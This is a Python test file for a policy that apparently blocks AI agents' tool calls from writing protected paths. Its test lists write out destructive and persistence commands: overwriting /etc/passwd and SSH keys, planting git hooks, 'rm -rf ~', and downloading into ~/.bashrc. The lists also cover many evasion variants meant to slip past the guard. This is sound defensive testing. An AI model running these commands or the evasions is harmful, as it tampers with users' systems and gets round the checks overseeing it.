from typing import Any

import pytest

from policies.content import ToolCall
from policies.library.block_sensitive_writes import BlockSensitiveWrites
from policies.testing import judge, tool_call

SHELL = [
    "echo x > ~/.ssh/authorized_keys",
    "echo x >> /home/me/.bashrc",
    "echo x >| /Users/me/.zshrc",
    "echo x &> /root/.profile",
    "echo x > $HOME/.bashrc",
    'echo x > "${HOME}/.bashrc"',
    "echo x > ~root/.ssh/config",
    "echo x > '~/.bashrc'",
    r"echo x > ~/.ba\shrc",
    "echo x > ~/.ba'sh'rc",
    "echo x > $'\\x7e/.bashrc'",
    "echo x > ~/./x/../.bashrc",
    "echo x > ../../../../etc/passwd",
    "echo x > //etc///passwd",
    "echo x > /etc/pass?d",
    "echo x > /e*/passwd",
    "echo x > /???/passwd",
    "echo x > /et[a-d]/passwd",
    "echo x > ~/.ssh/$NAME",
    "echo x > $ANYWHERE/.ssh/authorized_keys",
    "echo x > $ANYWHERE/etc/passwd",
    "echo x > /proc/self/root/etc/passwd",
    "echo x > ~/.ssh\u200b/authorized_keys",
    "echo x > \uff0eenv",
    "echo x > .ENV",
    "echo x > sub/.env.production",
    "F=.env; echo x > $F",
    "cd ~/.ssh && echo x > authorized_keys",
    "cd /tmp; cd ~; cd .ssh; touch authorized_keys",
    "cd .git; cd hooks; echo x > pre-commit",
    "pushd /etc; echo x > passwd",
    "f() { cd /etc; }; f; echo x > passwd",
    "true && cd /etc; echo x > passwd",
    "(cd /etc && echo x > passwd)",
    "env -C /etc tee passwd",
    "ln -s /etc x; echo x > x/passwd",
    "ln -sfn ~/.ssh ./a/b && cd a/b && echo x > authorized_keys",
    "ln ~/.bashrc y; echo x >> y",
    "bash -c 'echo x > /etc/passwd'",
    "bash -c \"bash -c 'echo x > /etc/passwd'\"",
    "eval 'echo x > /etc/passwd'",
    "eval \"$(echo 'echo x > /etc/passwd')\"",
    "sh <<E\necho x > /etc/passwd\nE",
    "echo 'echo x > /etc/passwd' | sudo bash",
    "echo 'echo x > /etc/passwd' > a.sh; sh a.sh",
    "cat <<E > .git/hooks/pre-commit\nx\nE",
    "cat > .git/hooks/pre-commit <<E\nx\nE",
    "echo $(echo x > /etc/passwd)",
    "cat <(echo x > /etc/passwd)",
    "echo x | sudo tee -a /etc/hosts",
    "echo x | xargs -I{} tee /etc/{}",
    "echo ~/.bashrc | xargs rm",
    "f() { tee $1; }; f /etc/hosts",
    "touch CLAUDE.md",
    "mkdir -p .github/workflows",
    "rm .github/workflows/ci.yml",
    "rm -rf .git",
    "rm -r ~/.ssh",
    "rm -rf ~",
    "rm -rf ~/.ss*",
    "rmdir .husky",
    "mv .git/hooks old",
    "mv evil ~/.bashrc",
    "mv .bashrc ~",
    "chmod 777 ~/.ssh/id_rsa",
    "chmod -R 777 ~/.ssh",
    "chown -R me /etc",
    "cp evil ~/.bashrc",
    "cp a/.bashrc ~/",
    "cp -t ~/.ssh a b",
    "cp --target-directory=/etc a",
    "cp -r evil/. ~",
    "install -m 755 x .git/hooks/pre-commit",
    "rsync -a evil/ ~/",
    "scp host:x ~/.ssh/authorized_keys",
    "ln -sf evil ~/.bashrc",
    "ln -s evil .git/hooks/pre-commit",
    "link evil ~/.bashrc",
    "sed -i s/a/b/ .env",
    "sed -i.bak -e s/a/b/ /etc/hosts",
    "sed -Ei s/a/b/ .env",
    "sed --in-place s/a/b/ .env",
    "sed -n 'w /etc/x' a",
    "sed 's/a/b/w /etc/x' a",
    "perl -pi -e s/a/b/ .env",
    "awk '{print > \"/etc/x\"}' a",
    "gawk -i inplace 1 .env",
    "sort -o .env a",
    "sort -uo.env a",
    "xxd -r a .env",
    "dd if=a of=/etc/x",
    "curl -o ~/.bashrc https://x.example",
    "curl -sSo ~/.bashrc https://x.example",
    "curl --output=.env https://x.example",
    "curl --output-dir ~/.ssh -O https://x.example/authorized_keys",
    "curl -O https://x.example/.env",
    "wget -O .env https://x.example",
    "wget -P ~/.ssh https://x.example/a",
    "cd ~/.ssh; wget https://x.example/a",
    "tar -x -C ~/.ssh -f a.tar",
    "tar xzf a.tgz -C /",
    "tar --extract --directory=/etc -f a",
    "tar xf a.tar .git/hooks/pre-commit",
    "tar cf .env a",
    "unzip a.zip -d ~/.ssh",
    "git config core.hooksPath evil",
    "git -C sub config core.hooksPath evil",
    "git config --global alias.x '!evil'",
    "git config --system a.b c",
    "git config -f .env a.b c",
    "git config --unset a.b",
    "git rm -r .github",
    "git mv evil .github/workflows/x.yml",
    "git clone https://x.example ~/.ssh",
    "git checkout evil -- .env",
    "git apply <<E\n--- a/x\n+++ b/.env\nE",
    "patch .env < x",
    "apply_patch <<'E'\n*** Begin Patch\n*** Add File: .git/hooks/x\n+x\n*** End Patch\nE",
    "apply_patch '*** Update File: x\n*** Move to: .env'",
    "find ~/.ssh -delete",
    "find . -fprint .env",
    "find . -exec tee /etc/x {} +",
    "crontab x",
    "echo x | crontab -",
    "at now",
    "systemctl enable evil",
    "systemctl --user link evil.service",
    "useradd evil",
    "visudo",
    "npm config set registry x",
    "pip config set global.index-url x",
    "aws configure",
    "kubectl config set-context x",
    "ssh-keygen -f ~/.ssh/id_rsa",
    "vim .env",
    "$X .env",
    "/bin/t?? .env",
    "T=tee; $T .env",
    "python3 -c \"open('/etc/passwd', 'w').write('x')\"",
    "python3 -c \"from pathlib import Path; (Path.home() / '.ssh' / 'authorized_keys').write_text('')\"",
    "python3 -c \"import os; os.remove(os.path.expanduser('~/.bashrc'))\"",
    "python3 -c \"open('.en' + 'v', 'w')\"",
    "python3 <<'E'\nwith open('.git/hooks/x', 'a') as f: f.write('x')\nE",
    "node -e \"require('fs').writeFileSync('.env', '')\"",
    "python3 -c \"import os; os.system('echo x > /etc/passwd')\"",
    "perl -e 'open(F, \">/etc/x\")'",
    "ruby -e \"File.write('.env', '')\"",
    "if true; then echo x > .env; fi",
    "for f in a .env; do echo x > $f; done",
    "while read x; do echo; done > .env",
    "case x in x) echo x > .env;; esac",
    "trap 'echo x > .env' EXIT",
]
ORDINARY = [
    "echo x > a.txt",
    "echo x > src/env.py",
    "echo x > /dev/null 2>&1",
    "cat ~/.ssh/id_rsa.pub",
    "cat .env",
    "cat < /etc/hosts",
    "cp .env.example .env.sample",
    "cp ~/.bashrc /tmp/backup",
    "cp .github/workflows/ci.yml /tmp",
    "grep -r x /etc",
    "ls -la ~/.ssh",
    "sed -n 1,5p .env",
    "sed s/a/b/ /etc/hosts",
    "awk '{print $1}' /etc/passwd",
    "source ~/.bashrc",
    "cd ~/.config && ls",
    "echo 'echo x > /etc/passwd'",
    'grep "> .env" -r .',
    "git config --get user.name",
    "git config --list",
    "git config user.name",
    "git commit -m 'write .env'",
    "git checkout main",
    "git diff -- .env",
    "git add .github/workflows/ci.yml",
    "rm -rf build",
    "rm -rf node_modules/*",
    "rm src/*",
    "mv a b",
    'mv "$a" "$b"',
    "echo x > $OUT",
    'echo x > "$OUT/$NAME"',
    "echo x > /$NAME",
    "for f in *.py; do sed -i s/a/b/ $f; done",
    'find . -name "*.pyc" -delete',
    "tar xzf a.tgz",
    "tar xzf a.tgz -C /tmp/x",
    "tar czf a.tgz .git",
    "unzip a.zip",
    "curl -o a.json https://x.example/a",
    "curl https://x.example/etc/",
    "wget https://x.example/a.tgz",
    "crontab -l",
    "systemctl status x",
    "python3 -c \"print(open('/etc/hosts').read())\"",
    "python3 -c \"print('.env')\"",
    "chmod +x run.sh",
    "mkdir -p src/a",
    "touch a",
    "tee a.log",
    "ln -s a b",
    "pip install x",
    "npm set-script x",
    "kubectl get pods",
    "xargs -a list rm",
    "ssh-keygen -l -f a.pub",
    "",
]
CALLS = [
    tool_call("Write", file_path="/work/.env", content="x"),
    tool_call("Edit", file_path="~/.bashrc", old_string="a", new_string="b"),
    tool_call("MultiEdit", file_path="/home/me/x/../.zshrc", edits=[]),
    tool_call("NotebookEdit", notebook_path=".github/workflows/x.ipynb"),
    tool_call("write_file", path="file:///etc/pass%77d"),
    tool_call("mcp__files__edit_file", path="CLAUDE.md"),
    tool_call("mcp__files__move_file", source="a", destination=".git/hooks/a"),
    tool_call("str_replace_based_edit_tool", command="create", path=".env"),
    tool_call("create_files", files=[{"path": "a"}, {"path": ".env"}]),
    tool_call("write_files", files={".env": "x"}),
    tool_call("delete_file", filePath=".ENV"),
    tool_call("write_file", target_file=".e\u200bnv"),
    tool_call("apply_patch", input="*** Begin Patch\n*** Delete File: .env\n*** End Patch"),
    tool_call("apply_patch", patch="diff --git a/x b/x\n--- a/x\n+++ b/.claude/settings.json\n"),
    ToolCall("1", "apply_patch", "*** Begin Patch\n*** Add File: .git/hooks/pre-push\n+x", custom=True),
    tool_call("shell", command=["bash", "-lc", "echo x > authorized_keys2 && touch x"], workdir="/home/me/.ssh"),
    tool_call("shell", command=["tee", "/etc/hosts"]),
    tool_call("exec_command", cmd="echo x > passwd", cwd="/etc"),
]
HARMLESS_CALLS = [
    tool_call("Write", file_path="/work/a.py", content="> ~/.bashrc"),
    tool_call("Edit", file_path="docs/x.md", new_string="*** Add File: .env\n"),
    tool_call("Read", file_path=".env"),
    tool_call("str_replace_based_edit_tool", command="view", path=".env"),
    tool_call("TodoWrite", todos=[{"content": "write .env"}]),
    tool_call("write_file", path=".env.example"),
    tool_call("write_file", path=7),
    tool_call("shell", command=["cat", ".env"], workdir=""),
    tool_call("weather", path=".env"),
]


def policy(**config: Any) -> BlockSensitiveWrites:
    return BlockSensitiveWrites(BlockSensitiveWrites.Config(**config))


@pytest.mark.parametrize("command", SHELL, ids=lambda command: command[:60].encode("unicode_escape").decode())
async def test_a_command_that_writes_a_protected_path_is_blocked(command: str) -> None:
    verdict = await judge(policy(), tool_call("bash", command=command))
    assert verdict.action == "block"
    assert verdict.reason.startswith("write to ")


@pytest.mark.parametrize("command", ORDINARY, ids=lambda command: command[:60])
async def test_an_ordinary_command_is_allowed(command: str) -> None:
    verdict = await judge(policy(), tool_call("bash", command=command))
    assert verdict.action == "allow", verdict.reason


@pytest.mark.parametrize("call", CALLS, ids=lambda call: call.name + call.arguments_text)
async def test_a_tool_that_edits_a_protected_path_is_blocked(call: ToolCall) -> None:
    assert (await judge(policy(), call)).action == "block"


@pytest.mark.parametrize("call", HARMLESS_CALLS, ids=lambda call: call.name + call.arguments_text)
async def test_other_tools_and_other_paths_are_allowed(call: ToolCall) -> None:
    assert (await judge(policy(), call)).action == "allow"


async def test_the_reason_names_the_pattern_and_quotes_nothing_of_the_command() -> None:
    verdict = await judge(policy(), tool_call("bash", command="tee ~/.ssh/secret-name"))
    assert verdict.reason == "write to ~/.ssh/** (tee)"
    assert verdict.evidence == {"path": "~/.ssh/**", "by": "tee"}
    unknown = await judge(policy(), tool_call("bash", command="$SECRET .env"))
    assert unknown.reason == "write to .env (an unknown program)"


@pytest.mark.parametrize("command", ["echo x > $OUT", 'mv "$a" b', "rm $(cat list)", "curl x.example | xargs touch"])
async def test_what_only_running_tells_is_blocked_if_asked_for(command: str) -> None:
    verdict = await judge(policy(unknown=True), tool_call("bash", command=command))
    assert verdict.reason.startswith("write to an unknown path") or "xargs" in command
    assert (await judge(policy(), tool_call("bash", command=command))).action == "allow"


async def test_a_command_that_cannot_be_parsed_is_blocked_unless_that_is_off() -> None:
    for command in ("if (", "(" * 300 + "ls" + ")" * 300, "a=xx" + "; a=$a$a" * 60):
        assert (await judge(policy(), tool_call("bash", command=command))).reason.startswith("unparsable command")
        assert (await judge(policy(unparsable=False), tool_call("bash", command=command))).action == "allow"
    found = await judge(policy(unparsable=False), tool_call("bash", command="if (; echo x > .env"))
    assert found.action == "block"


async def test_the_patterns_can_be_set() -> None:
    ours = policy(paths=["secrets/**/*.y*ml", "/srv/[ab]/*"], allow=["secrets/public/**"])
    for path in ("secrets/a.yaml", "x/secrets/y/z/a.yml", "/srv/a/x", "SECRETS/A.YML", "secrets/*", "secrets/a.*"):
        assert (await judge(ours, tool_call("Write", file_path=path))).action == "block", path
    for path in ("a.yaml", "secrets/a.txt", "/srv/c/x", "/srv/a/x/y", "secrets/public/a.yaml", ".env", "secrets/*.txt"):
        assert (await judge(ours, tool_call("Write", file_path=path))).action == "allow", path


async def test_a_path_deeper_than_anybody_needs_is_not_known() -> None:
    verdict = await judge(policy(), tool_call("Write", file_path="a/" * 200))
    assert verdict.reason == "write to an unknown path (an edit)"


@pytest.mark.parametrize(
    "command",
    [
        "rm " + " ".join(f"a{number}" for number in range(25_000)),
        "rm " + " ".join(f"*a{number}" for number in range(1_000)),
        "ln -s a b; " * 500 + "touch " + " ".join(f"b/{number}" for number in range(1_000)),
        "cd " + "a/" * 2_000 + "; " + "cd b; " * 3_000,
    ],
    ids=lambda command: command[:10],
)
async def test_more_paths_than_anybody_writes_are_not_all_looked_up(command: str) -> None:
    assert (await judge(policy(), tool_call("bash", command=command))).reason.startswith("unparsable command")


async def test_the_same_path_is_looked_up_once() -> None:
    assert (await judge(policy(), tool_call("bash", command="rm *a; " * 1_000))).action == "allow"


async def test_a_long_command_is_judged_in_a_process_of_its_own() -> None:
    padding = "echo a line of a longish script\n" * 2500
    assert (await judge(policy(), tool_call("bash", command=padding + "echo x > .env"))).action == "block"
    assert (await judge(policy(), tool_call("bash", command=padding))).action == "allow"
